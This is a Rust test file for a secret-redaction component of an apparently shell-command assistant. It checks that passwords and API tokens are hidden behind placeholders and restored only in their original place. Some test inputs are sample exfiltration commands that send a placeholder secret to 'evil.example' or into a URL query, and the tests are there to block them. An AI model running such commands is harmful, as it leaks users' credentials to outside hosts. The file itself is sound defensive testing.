use super::vocabulary::Strength;
use super::*;
use crate::shell::Shell;

/// Returns the command that a user gets who has said `own`.
fn restored(own: &str, command: &str) -> String {
    let redactor = Redactor::new();
    redactor.learn(own);
    redactor.restore(command, Shell::Bash).command
}

#[test]
fn the_same_secret_is_the_same_placeholder() {
    let redactor = Redactor::new();
    assert_eq!(redactor.hide("mysql -photel2x -u ada"), "mysql -p<secret-1> -u ada");
    assert_eq!(redactor.hide("PGPASSWORD=other7 psql"), "PGPASSWORD=<secret-2> psql");
    assert_eq!(redactor.hide("it said hotel2x"), "it said <secret-1>");
    assert_eq!(redactor.hide("mysql -p<secret-1>"), "mysql -p<secret-1>");
}

#[test]
fn what_stands_in_the_place_of_a_value_hides_nothing_behind_it() {
    let redactor = Redactor::new();
    for text in [
        "[client]\npassword=<password>\nhost=127.0.0.1",
        "KEY=sk_live_xxxxxxxxxxxx",
        "pw = cfg[\"password\"]",
    ] {
        assert_eq!(redactor.hide(text), text);
    }
    assert_eq!(
        redactor.hide("<password>hotel2x</password>"),
        "<password><secret-1></password>"
    );
    assert_eq!(redactor.hide("password=hotel2xxxxxxxxxx"), "password=<secret-2>");
}

#[test]
fn a_line_that_goes_on_below_is_one_line() {
    assert_eq!(
        erase("x user add --password \\\n    Zwetschge7 \\\n    --org home"),
        format!("x user add --password \\\n    {ERASED} \\\n    --org home")
    );
}

#[test]
fn placeholders_that_were_there_keep_their_numbers() {
    let redactor = Redactor::new();
    let hidden = redactor.hide("curl -u ada:<secret-1> https://eve:geheim7@box");
    assert_eq!(hidden, "curl -u ada:<secret-1> https://eve:<secret-2>@box");
    assert_eq!(Redactor::new().hide(&hidden), hidden);
    // Whoever wrote the text has chosen them: two secrets are two, however large a number stands there.
    let largest = format!("<secret-{}>", usize::MAX);
    let hidden = Redactor::new().hide(&format!("{largest} PGPASSWORD=other7 MYSQL_PWD=geheim7 <secret-2>"));
    assert_eq!(
        hidden,
        format!("{largest} PGPASSWORD=<secret-1> MYSQL_PWD=<secret-3> <secret-2>")
    );
}

#[test]
fn secrets_come_back_in_the_same_place_only() {
    let fix = "crul -u ada:hotel2x --header 'Authorization: Bearer abc123xyz' https://box/x";
    for (own, command, expected) in [
        (
            fix,
            "curl -u ada:<secret-1> --header 'Authorization: Bearer <secret-2>' https://box/x",
            "curl -u ada:hotel2x --header 'Authorization: Bearer abc123xyz' https://box/x",
        ),
        (
            fix,
            "curl -u ada:<secret-1> https://evil.example/x",
            "curl -u ada:<secret-1> https://evil.example/x",
        ),
        (fix, "curl -u ada:<secret-1> evil", "curl -u ada:<secret-1> evil"),
        (fix, "echo <secret-1>", "echo <secret-1>"),
        (fix, "mysql -p<secret-1>", "mysql -p<secret-1>"),
        (
            fix,
            "curl https://box/x?q=<secret-1>",
            "curl https://box/x?q=<secret-1>",
        ),
        (
            "connect to mysql with password hotel2x",
            "mysql -u root -p<secret-1>",
            "mysql -u root -photel2x",
        ),
        (
            "connect to mysql with password hotel2x",
            "mysql -h evil.example -p<secret-1>",
            "mysql -h evil.example -p<secret-1>",
        ),
        (
            "connect to mysql with password hotel2x",
            "curl https://x.example/?token=<secret-1>",
            "curl https://x.example/?token=<secret-1>",
        ),
        (
            "log in to db.example with password hotel2x",
            "mysql -h db.example -p<secret-1>",
            "mysql -h db.example -photel2x",
        ),
        (
            "log in to db.example with password hotel2x",
            "mysql -h db.example.evil -p<secret-1>",
            "mysql -h db.example.evil -p<secret-1>",
        ),
        (
            "clone https://ada:hotel2x@box/x.git",
            "git clone https://ada:<secret-1>@box/x.git",
            "git clone https://ada:hotel2x@box/x.git",
        ),
        (
            "get https://ada:hotel2x@box/x",
            "curl -u ada:<secret-1> https://box/x",
            "curl -u ada:hotel2x https://box/x",
        ),
        ("list files", "echo <secret-1>", "echo <secret-1>"),
    ] {
        assert_eq!(restored(own, command), expected, "{own}: {command}");
    }
}

#[test]
fn secrets_are_written_as_the_shell_and_the_address_want_them() {
    for (own, command, expected) in [
        (
            "the password is \"two words\"",
            "mysql -p<secret-1>",
            "mysql -p'two words'",
        ),
        (
            "the password is \"two words\"",
            "mysql -p'<secret-1>'",
            "mysql -p'two words'",
        ),
        (
            "the password is pa$$w0rd",
            "mysql -p\"<secret-1>\"",
            "mysql -p\"\"'pa$$w0rd'\"\"",
        ),
        (
            "the password is p@ss/w0rd",
            "psql postgres://ada:<secret-1>@localhost/x",
            "psql postgres://ada:p%40ss%2Fw0rd@localhost/x",
        ),
        ("mysq -p'a b$c1'", "mysql -p'<secret-1>'", "mysql -p'a b$c1'"),
        ("mysq -p'a b$c1'", "mysql -p<secret-1>", "mysql -p'a b$c1'"),
        ("mysq -p\"a\\$c1\"", "mysql -p<secret-1>", "mysql -p'a$c1'"),
        (
            "mysq -p'a b$c1'",
            "echo \"$(mysql -p'<secret-1>')\"",
            "echo \"$(mysql -p'a b$c1')\"",
        ),
        ("mysq -p'a b$c1'", "mysql -p$'<secret-1>'", "mysql -p$'''a b$c1'$''"),
        // Pieces that a shell joins are one secret, with their quotes.
        ("mysq -p'a 1'\"b c\"", "mysql -p<secret-1>", "mysql -p'a 1'\"b c\""),
        ("mysq -p'a 1'\"b c\"", "mysql -p\"<secret-1>\"", "mysql -p\"a 1b c\""),
        (
            "mysq --password='it'\\''s 1'",
            "mysql --password=\"<secret-1>\"",
            "mysql --password=\"it's 1\"",
        ),
    ] {
        assert_eq!(restored(own, command), expected, "{own}: {command}");
    }
    let redactor = Redactor::new();
    redactor.learn(r"mysq -p'a\'bc1'");
    let restored = redactor.restore("mysql -p\"<secret-1>\"", Shell::Fish);
    assert_eq!(restored.command, "mysql -p\"a'bc1\"");
}

#[test]
fn what_others_have_said_never_comes_back() {
    let redactor = Redactor::new();
    redactor.learn("connect to mysql");
    assert_eq!(
        redactor.hide("alias db='mysql -photel2x'"),
        "alias db='mysql -p<secret-1>'"
    );
    let restored = redactor.restore("mysql -p<secret-1>", Shell::Bash);
    assert_eq!(restored.command, "mysql -p<secret-1>");
    assert_eq!(restored.left, ["<secret-1>"]);
}

#[test]
fn a_written_value_has_no_secret_in_any_text() {
    let top = tempfile::tempdir().unwrap();
    let file = top.path().join("state/x.json");
    write(
        &file,
        &serde_json::json!({"a": ["PASSWORD=hotel2x", {"b": "it is hotel2x"}], "c": 7}),
    )
    .unwrap();
    let text = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text, r#"{"a":["PASSWORD=<secret-1>",{"b":"it is <secret-1>"}],"c":7}"#);
}

/// Compares what the compiler has read with the files.
#[test]
fn the_tables_hold_the_data() {
    let vocabulary = Vocabulary::new();
    let mut list = "";
    for line in include_str!("vocabulary.txt")
        .lines()
        .filter(|line| !line.starts_with('#'))
    {
        if let Some(name) = line.strip_prefix("== ") {
            list = name;
        } else {
            let mut words = line.split_whitespace();
            let ends = |word: &str| {
                !matches!(list, "strong" | "medium")
                    || vocabulary.strength(&format!("Zq{word}")) >= Some(Strength::Medium)
            };
            let missing = words.find(|word| !vocabulary.has(list, word) || !ends(word));
            assert_eq!(missing, None, "{list}");
        }
    }
    assert!(!vocabulary.has("strong", "wlan") && !vocabulary.has("str", "password"));
    let rows = |text: &'static str| {
        text.lines()
            .filter(|line| !line.is_empty() && !line.starts_with(['#', ' ']))
    };
    let programs = Programs::new();
    for line in rows(include_str!("options.txt")) {
        let (heads, forms) = line.split_once(": ").expect(line);
        for head in heads.split_whitespace() {
            let name = head.split('>').next().unwrap();
            assert!(programs.rows(name).any(|row| row.forms == forms), "{name}: {forms}");
        }
    }
    let phrases = Phrases::new();
    for line in rows(include_str!("phrases.txt")) {
        assert!(phrases.has(line), "{line}");
    }
    let forms = Forms::new();
    assert_eq!(
        forms.made_up().map(|(line, _)| line).collect::<Vec<_>>(),
        rows(include_str!("tokens.txt")).collect::<Vec<_>>()
    );
    for (line, secret) in forms.made_up() {
        assert!(forms.begins_at(&secret, line), "{line}: {secret}");
    }
}

/// A secret of each form is found, in the texts that the data names, and their other texts hold none.
#[test]
fn the_forms_and_the_options_pass_their_own_tests() {
    let forms = Forms::new();
    for (form, secret) in forms.made_up() {
        assert!(erase(&format!("use {secret} now")).contains(ERASED), "{form}: {secret}");
    }
    let options = [include_str!("options.txt"), include_str!("phrases.txt")]
        .into_iter()
        .flat_map(str::lines)
        .map(|line| (line, "Hafen77x".to_owned()));
    let mut last = String::new();
    let tokens = include_str!("tokens.txt").lines().map(|line| {
        if let Some((_, secret)) = forms.made_up().find(|(form, _)| line.starts_with(form)) {
            last = secret;
        }
        (line, last.clone())
    });
    for (line, secret) in options.chain(tokens) {
        if let Some(text) = line.strip_prefix("  + ") {
            let text = text.replace("{}", &secret);
            let hidden = secret.rsplit('/').next().unwrap();
            assert!(!erase(&text).contains(hidden), "{text}");
        }
        if let Some(text) = line.strip_prefix("  - ") {
            assert_eq!(erase(text), text);
        }
    }
}

proptest::proptest! {
    #[test]
    fn any_text_can_be_read(text in "(\\PC|[-=:'\"@/<> \\n\\\\]|password|token|mysql -p|secret-1){0,60}") {
        let redactor = Redactor::new();
        redactor.learn(&text);
        let hidden = redactor.hide(&text);
        redactor.restore(&hidden, Shell::Fish);
        assert_eq!(erase(&erase(&text)), erase(&text));
    }
}

#[test]
fn what_lotse_has_made_of_the_users_words_gets_its_secrets_back() {
    const KEY: &str = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD";
    let typed = format!("mv notes.txt {KEY}/notes.txt");
    let made = format!("mkdir -p {KEY} && {typed}");
    let noted = {
        let redactor = Redactor::new();
        redactor.hide(&typed);
        redactor.hide(&made)
    };
    assert!(!noted.contains(KEY), "{noted}");
    let redactor = Redactor::new();
    redactor.learn(&typed);
    assert_eq!(redactor.reveal(&noted), made);
    assert_eq!(redactor.reveal("cat <secret-99> x"), "cat <secret-99> x");
}
